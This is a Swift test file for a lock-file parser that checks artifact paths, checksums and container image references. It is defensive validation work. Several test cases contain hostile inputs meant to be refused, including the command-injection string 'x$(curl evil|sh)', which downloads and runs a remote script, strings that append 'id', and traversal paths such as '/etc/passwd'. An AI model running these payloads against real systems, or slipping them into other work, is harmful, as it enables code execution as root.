import Artifacts
import Diagnostics
import HTTP
import Testing

@Suite struct ArtifactLockTests {
  let hash = String(repeating: "0a", count: 32)

  @Test func `What is written reads back the same`() throws {
    let checksum = try #require(Checksum(.sha256, hex: hash))
    let long = try #require(Checksum(.sha512, hex: hash + hash))
    let lock = ArtifactLock(
      files: [
        LockedFile(name: "runc", version: "v1.4.0", architecture: .arm64, path: "a/runc.arm64", checksum: checksum),
        LockedFile(name: "server", version: "v1.36.2", architecture: .amd64, path: "b/s.tar.gz", checksum: long),
      ],
      images: [
        LockedImage(name: "dns", architecture: .amd64, reference: "r.io/dns:1", place: .registry(digest: checksum)),
        LockedImage(
          name: "pause", architecture: .amd64, reference: "r.io/pause:1",
          place: .archive(path: "images/pause.tar", checksum: checksum)),
      ])
    #expect(try ArtifactLock(yaml: lock.yaml(), file: "test") == lock)
  }

  /// As YAML writes them between double quotes.
  @Test(arguments: [
    "/etc/passwd", "../x", "a//b", "a/./b", "", #"a\0b"#, #"a\nb"#, #"a\e[2J"#, #"a\u202eb"#, #"a\Nb"#,
  ])
  func `A path that leaves the source, or hides something, is refused`(path: String) {
    let yaml = "version: 1\nfiles:\n- {name: x, version: v1, arch: arm64, path: \"\(path)\", sha256: \(hash)}\n"
    let error = #expect(throws: HearthError.self) { try ArtifactLock(yaml: yaml, file: "test") }
    #expect(error?.message.contains("relative path") == true)
  }

  @Test(arguments: ["sha256: 12", "sha256: zz", "note: none"])
  func `An entry without a whole hash is refused`(hash: String) {
    let yaml = "version: 1\nfiles:\n- {name: x, version: v1, arch: arm64, path: a/b, \(hash)}\n"
    let error = #expect(throws: HearthError.self) { try ArtifactLock(yaml: yaml, file: "my.lock.yaml") }
    #expect(error?.subject.file == "my.lock.yaml")
    #expect(error?.message.contains("a/b") == true)
  }

  @Test func `A second lock file may add but not change`() throws {
    let first = "version: 1\nfiles:\n- {name: x, version: v1, arch: arm64, path: a/b, sha256: \(hash)}\n"
    var lock = try ArtifactLock(yaml: first, file: "first")
    try lock.extend(by: ArtifactLock(yaml: first.replacing("a/b", with: "a/c"), file: "second"), from: "second")
    #expect(lock.files.keys.sorted() == ["a/b", "a/c"])
    let other = try ArtifactLock(yaml: first.replacing("0a", with: "0b"), file: "third")
    let error = #expect(throws: HearthError.self) { try lock.extend(by: other, from: "third") }
    #expect(error?.message == "two lock files disagree about a/b")
  }

  /// One algorithm says nothing about another, so none may take the place of one that is known.
  @Test(arguments: [("sha256", "sha512"), ("sha512", "sha256"), ("sha256", "sha256"), ("sha512", "sha512")])
  func `No algorithm replaces a checksum that is known`(first: String, second: String) throws {
    func yaml(_ algorithm: String, _ byte: String) -> String {
      let hex = String(repeating: byte, count: algorithm == "sha256" ? 32 : 64)
      return "version: 1\nfiles:\n- {name: x, version: v1, arch: arm64, path: a/b, \(algorithm): \(hex)}\n"
    }
    var lock = try ArtifactLock(yaml: yaml(first, "0a"), file: "first")
    let before = lock
    let other = try ArtifactLock(yaml: yaml(second, "0b"), file: "second")
    let error = #expect(throws: HearthError.self) { try lock.extend(by: other, from: "second") }
    #expect(error?.code == .checksum && error?.subject.file == "second")
    #expect(lock == before)
    let both = yaml(first, "0a") + yaml(second, "0b").split(separator: "\n").suffix(1).joined() + "\n"
    #expect(throws: HearthError.self) { try ArtifactLock(yaml: both, file: "both") }
    try lock.extend(by: ArtifactLock(yaml: yaml(first, "0a"), file: "same"), from: "same")
    #expect(lock == before)
  }

  @Test func `Two checksums of one file are refused`() {
    let yaml =
      "version: 1\nfiles:\n- {name: x, version: v1, arch: arm64, path: a/b, sha256: \(hash), sha512: \(hash)\(hash)}\n"
    #expect(throws: HearthError.self) { try ArtifactLock(yaml: yaml, file: "test") }
  }

  @Test func `An image that is replaced is remembered`() throws {
    func yaml(_ reference: String, _ byte: String) -> String {
      let digest = String(repeating: byte, count: 32)
      return
        "version: 1\nimages:\n- {name: pause, arch: arm64, reference: '\(reference)', digest: 'sha256:\(digest)'}\n"
    }
    var lock = try ArtifactLock(yaml: yaml("r.io/pause:1", "0a"), file: "first")
    try lock.extend(by: ArtifactLock(yaml: yaml("r.io/pause:1", "0a"), file: "same"), from: "same")
    #expect(lock.replacements.isEmpty)
    try lock.extend(by: ArtifactLock(yaml: yaml("r.io/pause:1", "0b"), file: "second"), from: "second")
    #expect(lock.replacements.map(\.file) == ["second"])
    #expect(lock.replacements.first?.text.contains("with other content") == true)
    #expect(lock.images.count == 1)
  }

  /// It goes into programs that root runs on every node.
  @Test(arguments: [
    "x$(curl evil|sh)", "r.io/p:1;id", "r.io/p:1 x", "r.io/p:1\nx", "r.io/p", "p:", ":1", "r.io/p@sha256:00", "-x/p:1",
    "r.io/../p:1", "r.io/p:`id`", "r.io/p:1'", "r.io/P:1", "evil.io:1:2/p:1", "r.io//p:1", "é.io/p:1",
    "r.io/p:1\u{85}x",
  ])
  func `A reference that is more than a name is refused`(reference: String) throws {
    for place in ["digest: 'sha256:\(hash)'", "path: images/p.tar, sha256: \(hash)"] {
      let text = reference.debugDescription
      let yaml = "version: 1\nimages:\n- {name: p, arch: arm64, reference: \(text), \(place)}\n"
      let error = #expect(throws: HearthError.self) { try ArtifactLock(yaml: yaml, file: "lock") }
      #expect(error?.code == .checksum && error?.subject.file == "lock")
    }
  }

  @Test func `The lock file that is part of hearth reads`() throws {
    _ = try ArtifactLock.embedded()
  }
}
